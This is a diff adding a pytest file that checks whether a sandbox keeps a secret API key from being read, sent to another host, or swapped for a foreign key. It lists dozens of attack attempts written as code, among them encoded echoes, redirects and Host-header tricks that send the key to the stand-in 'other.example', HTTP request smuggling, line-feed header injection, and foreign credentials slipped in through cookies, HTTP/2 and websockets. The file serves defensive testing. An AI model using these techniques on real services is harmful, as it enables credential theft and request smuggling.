@@ -1,0 +1,194 @@
+"""Attempts on a secret that a sandbox may use: to read it, to send it elsewhere, and to send another one in its place.
+
+Each is first shown to work where a program simply has the value, on the host of a world (harness/world.py), whose
+internet has a TLS server at a provider's name that sends back what it is told. Inside, a program has a placeholder.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+from collections.abc import Iterator, Mapping
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.harness.world import METADATA, NAMES, PUBLIC, Seen, World, open_world
+
+HOST, OTHER = "api.anthropic.com", "other.example"
+VALUE = "sk-ant-api03-RealValue0123456789abcdefXYZ"
+FOREIGN = "sk-ant-api03-AttackersOwn9876543210fedcb"
+PROGRAM = (Path(__file__).parent / "secrets_program.py").read_text()
+TABLE = {**NAMES, HOST: [[PUBLIC]], "api.openai.com": [[METADATA]], "github.com": [[PUBLIC]]}
+
+
+@dataclass(frozen=True, slots=True)
+class Row:
+    """An attempt: the body of a function, and what shows that it succeeded.
+
+    `reads`: what it returns has the value. `sends`: the value came to another host than its own, or outside of TLS.
+    `brings`: a foreign credential came to anybody.
+    """
+
+    name: str
+    shows: str
+    code: str
+
+
+ROWS = (
+    Row("an echo", "reads", 'return ask("/plain", key)'),
+    Row("an echo in chunks", "reads", 'return ask("/chunked", key)'),
+    Row("an echo in hex", "reads", 'return bytes.fromhex(ask("/hex", key).decode())'),
+    Row("an echo in base64", "reads", 'return base64.b64decode(ask("/base64", key))'),
+    Row("an echo with percent signs", "reads", 'return urllib.parse.unquote_to_bytes(ask("/percent", key))'),
+    Row("an echo in JSON", "reads", 'return json.loads(ask("/json", key))["head"].encode()'),
+    Row("an echo in a header", "reads", 'return raw(HOST, request("/header", key))'),
+    Row("an echo in a trailer", "reads", 'return raw(HOST, request("/trailer", key))'),
+    Row("a compressed echo", "reads", 'return gzip.decompress(ask("/gzip", {**key, "Accept-Encoding": "gzip"}))'),
+    Row("an echo of Basic credentials", "reads", 'return unpacked(ask("/plain", {"Authorization": basic("", K)}))'),
+    Row("a header that is logged", "reads", 'return ask("/plain", {"User-Agent": K})'),
+    Row("a header of another name", "reads", 'return raw(HOST, request("/plain", {"X-Own": K}))'),
+    Row("the environment and the files", "reads", "return everything()"),
+    Row("a redirect to another host", "sends", 'return ask("/redirect/" + f"https://{OTHER}/".encode().hex(), key)'),
+    Row("a redirect to plain HTTP", "sends", 'return ask("/redirect/" + f"http://{OTHER}/".encode().hex(), key)'),
+    Row("plain HTTP to its own host", "sends", 'return raw(HOST, request("/", key), port=80)'),
+    Row("plain HTTP to another host", "sends", 'return raw(OTHER, request("/", key, host=OTHER), port=80)'),
+    Row("another Host", "sends", 'return raw(HOST, request("/", key, host=OTHER))'),
+    Row("another Host in the target", "sends", 'return raw(HOST, request(f"https://{OTHER}/", key))'),
+    Row("another server name", "sends", 'return raw(OTHER, request("/", key), name=OTHER)'),
+    Row(
+        "a smuggled request", "sends",
+        """
+        hidden = request("/", key, host=OTHER)
+        head = {"Transfer-Encoding": "chunked", "Content-Length": str(len(hidden) + 5), **key}
+        return raw(HOST, request("/", head, method="POST", ends=False) + b"0\\r\\n\\r\\n" + hidden)
+        """,
+    ),
+    Row("a bare line feed", "sends", 'return raw(HOST, request("/", {"X": f"a\\nHost: {OTHER}", **key}))'),
+    Row("a name that leads elsewhere", "sends", """
+        return raw("api.openai.com", request("/", {"X-Api-Key": OPENAI}, host="api.openai.com"))
+        """),
+    Row("a foreign key", "brings", 'return ask("/plain", {"x-api-key": FOREIGN})'),
+    Row("a foreign bearer", "brings", 'return ask("/plain", {"Authorization": f"Bearer {FOREIGN}"})'),
+    Row("a foreign key with an underscore", "brings", 'return ask("/plain", {"X_API_KEY": FOREIGN})'),
+    Row("a foreign key, too", "brings", 'return raw(HOST, request("/", key, more=("x-api-key", FOREIGN)))'),
+    Row("a foreign cookie", "brings", 'return ask("/plain", {**key, "Cookie": f"session={FOREIGN}"})'),
+    Row("a foreign key in a later request", "brings", """
+        return raw(HOST, request("/plain", key, ends=True) + request("/plain", {"x-api-key": FOREIGN}))
+        """),
+    Row("a foreign key for a proxy", "brings", 'return ask("/plain", {"Proxy-Authorization": f"Bearer {FOREIGN}"})'),
+    Row("a foreign key by HTTP/2", "brings", """
+        return raw(HOST, b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + FOREIGN.encode(), protocols=["h2"])
+        """),
+    Row("a foreign key by address", "brings", 'return raw(ADDRESS, request("/", {"x-api-key": FOREIGN}), name=HOST)'),
+    Row("a foreign key to another host's address", "brings", """
+        return raw(OTHER, request("/", {"x-api-key": FOREIGN}), name=HOST)
+        """),
+    Row("a foreign key by a web socket", "brings", """
+        upgrade = {"Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Key": "eA=="}
+        return raw(HOST, request("/", {**upgrade, "Sec-WebSocket-Version": "13", "X-Own": FOREIGN}))
+        """),
+    Row("a foreign user of Basic credentials", "brings", 'return ask("/plain", {"Authorization": basic(FOREIGN, K)})'),
+)  # fmt: skip
+OUTSIDE = (
+    'import os, json\nos.environ.update(ARGUMENT["env"])\nexec(compile(ARGUMENT["program"], "<attempts>", "exec"))\n'
+)
+INSIDE = """
+import cloche, os
+os.environ["THE_KEY"] = ARGUMENT["value"]
+secrets = {
+    "ANTHROPIC_API_KEY": cloche.Secret(env="THE_KEY"),
+    "OPENAI_API_KEY": cloche.Secret(value=ARGUMENT["value"]),
+}
+result = cloche.run(ARGUMENT["program"], secrets=secrets, network_allow=ARGUMENT["allow"], timeout=90, level="jail")
+print(json.dumps({
+    "stdout": result.stdout, "stderr": result.stderr, "status": str(result.status),
+    "network": result.meta.get("network"), "hits": dict(result.enforcement.hits),
+}))
+"""
+
+
+@dataclass(frozen=True, slots=True)
+class Came:
+    """What came of all attempts: what each returned, what the world saw, and the rows of the network."""
+
+    returned: Mapping[str, str]
+    seen: Seen
+    network: list[Mapping[str, Any]]
+
+    def shows(self, row: Row) -> bool:
+        """Tell whether an attempt succeeded."""
+        if row.shows == "reads":
+            return VALUE in self.returned[row.name]
+        mark = f"mark-{ROWS.index(row)}-".lower()
+        texts = [one for one in self.seen.arrivals if mark in one["text"]]
+        if row.shows == "brings":
+            packed = base64.b64encode(FOREIGN.encode()).decode()[:40]
+            return any(text.lower() in one["text"] for one in texts for text in (FOREIGN, packed))
+        return any(VALUE.lower() in one["text"] and _is_elsewhere(one) for one in texts)
+
+
+def _is_elsewhere(arrival: Mapping[str, Any]) -> bool:
+    hosts = {request.get("host", "").partition(":")[0] for request in arrival["requests"]}
+    lines = arrival["text"]
+    return (
+        arrival["address"] == METADATA or arrival["server_name"] != HOST or bool(hosts - {HOST})
+        or f"host: {OTHER}" in lines or f"https://{OTHER}/" in lines
+    )  # fmt: skip
+
+
+def program() -> str:
+    """Return the program that makes all attempts."""
+    told = [{"name": row.name, "mark": f"mark-{number}-", "code": row.code} for number, row in enumerate(ROWS)]
+    constants = {"FOREIGN": FOREIGN, "ADDRESS": PUBLIC, "HOST": HOST, "OTHER": OTHER, "TOLD": told}
+    return "".join(f"{name} = {value!r}\n" for name, value in constants.items()) + PROGRAM
+
+
+@pytest.fixture(scope="module")
+def world() -> Iterator[World]:
+    """Open a world with providers."""
+    with open_world(TABLE) as world:
+        yield world
+
+
+@pytest.fixture(scope="module")
+def outside(world: World) -> Came:
+    """Make all attempts where the program has the value."""
+    env = {"ANTHROPIC_API_KEY": VALUE, "OPENAI_API_KEY": VALUE}
+    printed = world.run(OUTSIDE, {"program": program(), "env": env})
+    return Came(printed, world.seen(), [])
+
+
+@pytest.fixture(scope="module")
+def inside(world: World, outside: Came) -> Came:
+    """Make all attempts in a sandbox."""
+    world.forget()
+    allow = [OTHER, f"{PUBLIC}:443"]
+    run = world.run(INSIDE, {"program": program(), "value": VALUE, "allow": allow})
+    assert run["stdout"], run
+    return Came(json.loads(run["stdout"].splitlines()[-1]), world.seen(), run["network"])
+
+
+@pytest.mark.parametrize("row", ROWS, ids=lambda row: row.name)
+def test_a_secret_is_used_and_nothing_else(row: Row, outside: Came, inside: Came) -> None:
+    """An attempt that succeeds with the value in the environment does not in a sandbox."""
+    assert outside.shows(row), outside.returned[row.name]
+    assert not inside.shows(row), inside.returned[row.name]
+
+
+def test_the_value_arrives_where_it_belongs(inside: Came) -> None:
+    """At its own host, in TLS, in the header and in Basic credentials: else all of this would show nothing."""
+    said = [one["text"] for one in inside.seen.arrivals if one["server_name"] == HOST]
+    assert any(f"x-api-key: {VALUE.lower()}" in text for text in said)
+    assert "200" in inside.returned["an echo in a header"]
+    assert any("authorization: basic " in text for text in said)
+
+
+def test_what_happened_is_told(inside: Came) -> None:
+    """A refused credential and a placeholder that left are rows of the network."""
+    why = [row["why"] for row in inside.network if row["host"] in (HOST, OTHER)]
+    assert any("no other is taken here" in text for text in why)
+    assert any("the placeholder of ANTHROPIC_API_KEY was sent to this host" in text for text in why)
+    assert not any(VALUE in text or FOREIGN in text for text in why)
